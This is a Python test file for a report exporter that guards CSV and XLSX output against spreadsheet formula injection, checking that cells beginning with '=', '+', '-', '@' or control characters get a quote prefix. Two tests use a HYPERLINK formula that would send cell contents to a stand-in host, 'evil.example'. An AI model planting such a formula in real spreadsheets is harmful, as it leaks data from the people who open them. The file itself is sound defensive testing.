"""reports/exports.py: CSV a spreadsheet cannot turn into a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from reports.exports import COLUMNS, neutralise, to_csv, to_xlsx


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param("=1+1", "'=1+1", id="equals-prefixed"),
        pytest.param("+44 29 2000 0000", "'+44 29 2000 0000", id="plus-prefixed"),
        pytest.param("-2+3", "'-2+3", id="minus-prefixed"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at-prefixed"),
        pytest.param("\t=cmd", "'\t=cmd", id="tab-prefixed"),
        pytest.param("\r=cmd", "'\r=cmd", id="carriage-return-prefixed"),
        pytest.param("\n=cmd", "'\n=cmd", id="newline-prefixed"),
        pytest.param("Llandough Primary", "Llandough Primary", id="normal-text-unchanged"),
        pytest.param("a=b", "a=b", id="equals-inside-unchanged"),
        pytest.param("'quoted", "'quoted", id="leading-quote-unchanged"),
        pytest.param("", "", id="empty-string-unchanged"),
        pytest.param(None, "", id="none-is-empty"),
        pytest.param(3, "3", id="int-as-text"),
        pytest.param(-3, "'-3", id="negative-number-prefixed"),
        pytest.param(True, "True", id="bool-as-text"),
        pytest.param(["4", "11"], '["4", "11"]', id="list-as-json"),
        pytest.param({"b": 1, "a": "Sïan"}, '{"a": "Sïan", "b": 1}', id="dict-as-sorted-json-unicode-kept"),
        pytest.param([], "[]", id="empty-list-as-json"),
    ],
)
def test_neutralise(value: Any, cell: str) -> None:
    assert neutralise(value) == cell


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_to_csv_header_is_columns() -> None:
    assert _rows(to_csv([])) == [COLUMNS]


def test_to_csv_hostile_text_round_trips_neutralised() -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    view = {"finding_id": 7, "severity": "high", "status": "needs-review", "clauses": ["4", "11"],
            "text": hostile, "title": "+SUM(1,2)", "author": "@dad", "targets": [{"name": "X", "role": "staff"}]}
    header, row = _rows(to_csv([view]))
    cells = dict(zip(header, row, strict=True))
    assert cells["text"] == "'" + hostile
    assert cells["title"] == "'+SUM(1,2)"
    assert cells["author"] == "'@dad"
    assert cells["clauses"] == '["4", "11"]'
    assert cells["targets"] == '[{"name": "X", "role": "staff"}]'
    assert cells["finding_id"] == "7"
    assert cells["url"] == ""  # missing keys are empty cells


def test_a_guess_is_a_column_of_its_own() -> None:
    view = {"categories": {"threatening": 0.67}, "guessed": ["threatening"], "language": "Welsh"}
    header, row = _rows(to_csv([view]))
    cells = dict(zip(header, row, strict=True))
    assert (cells["guessed"], cells["language"]) == ('["threatening"]', "Welsh")


def test_to_csv_multiline_text_stays_one_row() -> None:
    rows = _rows(to_csv([{"text": "line one\nline two, with comma"}, {"text": "second"}]))
    assert len(rows) == 3
    assert rows[1][COLUMNS.index("text")] == "line one\nline two, with comma"


def _sheet(data: bytes) -> list[list[Any]]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    return [list(row) for row in workbook["findings"].iter_rows(values_only=True)]


def test_to_xlsx_cells_are_text_and_formulas_are_neutralised() -> None:
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    data = to_xlsx([{"finding_id": 7, "text": hostile, "title": "\t=cmd", "author": "@dad",
                     "rationale": "bell\x07 and nul\x00 dropped", "clauses": ["4"]}])
    header, row = _sheet(data)
    cells = dict(zip(header, row, strict=True))
    assert header == COLUMNS
    assert cells["text"] == "'" + hostile and cells["title"] == "'\t=cmd" and cells["author"] == "'@dad"
    assert cells["rationale"] == "bell and nul dropped" and cells["clauses"] == '["4"]'
    sheet = load_workbook(io.BytesIO(data))["findings"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "inlineStr", "n"}  # no "f"
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "n" and cell.value]


def test_findings_xlsx_from_the_command_line(tmp_path: Any) -> None:
    from typer.testing import CliRunner

    from clausewatch.cli import app

    result = CliRunner().invoke(app, ["findings", "--format", "xlsx"])
    assert result.exit_code == 0, result.output
    assert _sheet(result.stdout_bytes) == [COLUMNS]
